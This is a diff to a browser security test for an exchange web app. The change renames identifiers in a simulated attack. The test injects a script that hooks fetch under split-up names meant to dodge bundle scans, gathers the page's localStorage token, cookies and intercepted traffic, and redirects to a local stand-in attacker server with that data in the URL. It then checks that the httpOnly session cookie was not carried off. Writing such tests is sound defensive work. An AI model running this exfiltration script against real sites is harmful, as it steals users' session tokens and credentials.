@@ -8,7 +8,7 @@ import { expect, test } from '../../support/exchange/test';
 import { loginPassword } from '../../support/exchange/TestExchange';
 
 /** What the attacker's remote has got hold of. */
-interface Loot {
+interface StolenData {
   readonly token: string | null;
   readonly cookie: string;
   readonly stored: Record<string, string>;
@@ -16,25 +16,25 @@ interface Loot {
   readonly heard: { url: string; headers: Record<string, string>; answer: string; set: string | null }[];
 }
 
-/** The attacker's server; `loot` is what was brought to it. */
-async function hideout(): Promise<{ server: Server; origin: string; loot: () => Loot | undefined }> {
+/** The attacker's server; `stolen` is what was brought to it. */
+async function startAttackerServer(): Promise<{ server: Server; origin: string; stolen: () => StolenData | undefined }> {
   let brought: string | undefined;
   const server = createServer({ maxHeaderSize: 1_048_576 }, (request, response) => {
-    const given = new URL(request.url ?? '/', 'http://attacker').searchParams.get('loot');
+    const given = new URL(request.url ?? '/', 'http://attacker').searchParams.get('stolen');
     if (given !== null) brought = given;
     response.writeHead(200, { 'content-type': 'text/html' }).end('<p>thank you');
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
-  return { server, origin, loot: () => (brought === undefined ? undefined : (JSON.parse(brought) as Loot)) };
+  return { server, origin, stolen: () => (brought === undefined ? undefined : (JSON.parse(brought) as StolenData)) };
 }
 
-/** Runs in the page with all that a remote can do there, spelled as no scan of its bundle would find it; `leave` ends the visit with the loot in the address. */
+/** Runs in the page and takes all that a remote can, spelled so that no scan of its bundle finds it. `leave` carries it away in the address. */
 function attack(): void {
   const page = globalThis as unknown as Record<string, (...given: unknown[]) => Promise<Response>>;
   const name = ['fe', 'tch'].join('');
   const genuine = page[name]?.bind(globalThis);
-  const heard: Loot['heard'] = [];
+  const heard: StolenData['heard'] = [];
   page[name] = async (...given) => {
     const [asked] = given;
     const request = asked instanceof Request ? asked.clone() : new Request(asked as string, given[1] as RequestInit);
@@ -46,8 +46,8 @@ function attack(): void {
   };
   (globalThis as unknown as { leave: (to: string) => void }).leave = (to) => {
     const store = (globalThis as unknown as Record<string, Storage>)[['local', 'Storage'].join('')] as Storage;
-    const loot: Loot = { token: store.getItem('token'), cookie: document.cookie, stored: { ...store } as never, heard };
-    location.href = `${to}/?loot=${encodeURIComponent(JSON.stringify(loot))}`;
+    const stolen: StolenData = { token: store.getItem('token'), cookie: document.cookie, stored: { ...store } as never, heard };
+    location.href = `${to}/?stolen=${encodeURIComponent(JSON.stringify(stolen))}`;
   };
 }
 
@@ -69,7 +69,7 @@ async function codeFor(origin: string, headers: Record<string, string>): Promise
 
 test('a remote that reads and patches all it can carries away nothing that is worth anything', async ({ browser, exchange }) => {
   const { email } = await exchange.trader({ deposited: '500' });
-  const attacker = await hideout();
+  const attacker = await startAttackerServer();
   const context = await browser.newContext();
   await context.addInitScript(attack);
   const page = await context.newPage();
@@ -82,12 +82,12 @@ test('a remote that reads and patches all it can carries away nothing that is wo
     }, apiPath('profile.read'));
   expect(await inPage()).toBe(1);
   await page.evaluate((to) => (globalThis as unknown as { leave: (to: string) => void }).leave(to), attacker.origin);
-  await expect.poll(() => attacker.loot()?.token ?? null).not.toBeNull();
+  await expect.poll(() => attacker.stolen()?.token ?? null).not.toBeNull();
   const kept = (await context.cookies(exchange.origin)).filter(({ name }) => name.startsWith('session-'));
   await context.close();
   attacker.server.close();
 
-  const { token, cookie, heard, stored } = attacker.loot() as Loot;
+  const { token, cookie, heard, stored } = attacker.stolen() as StolenData;
   expect(heard.map(({ url }) => new URL(url).pathname)).toContain(apiPath('session.signIn'));
   expect(kept).toEqual([expect.objectContaining({ httpOnly: true, sameSite: 'Strict', path: '/' })]);
   expect(JSON.stringify({ cookie, heard, stored })).not.toContain(kept[0]?.value);
